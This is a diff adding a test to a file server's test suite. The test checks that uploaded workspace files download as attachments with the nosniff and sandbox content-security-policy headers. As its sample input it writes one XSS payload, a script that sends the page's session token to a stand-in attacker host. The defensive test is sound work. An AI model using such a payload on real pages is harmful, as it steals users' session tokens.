@@ -49,3 +49,23 @@ test("HEAD gives the length of a file of several chunks, and a range past the en
   expect(past.headers.get("content-type")).toBe("text/plain; charset=utf-8");
   expect(await past.text()).toBe(`bad_message: the range is past the end of the file (${SIZE} bytes)\n`);
 });
+
+test("a downloaded workspace file is never a page of the server's origin: attachment, nosniff, and a sandbox CSP", async () => {
+  await using client = await connect(server);
+  const url = fileUrl(server, client, "page.html");
+  // What a command could write to steal the page's token, were it rendered at the server's origin.
+  const html = "<script>fetch('//evil.example/?' + sessionStorage.getItem('bunker.token'))</script>";
+  expect((await fetch(url, { method: "PUT", body: html, headers: bearer(server) })).status).toBe(201);
+  for (const method of ["GET", "HEAD"]) {
+    const response = await fetch(url, { method, headers: bearer(server) });
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("application/octet-stream");
+    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+    expect(response.headers.get("content-disposition")).toBe("attachment");
+    expect(response.headers.get("content-security-policy")).toBe("sandbox; default-src 'none'");
+  }
+  const ranged = await fetch(url, { headers: { ...bearer(server), range: "bytes=0-7" } });
+  expect(ranged.status).toBe(206);
+  expect(ranged.headers.get("content-disposition")).toBe("attachment");
+  expect(await ranged.text()).toBe("<script>");
+});
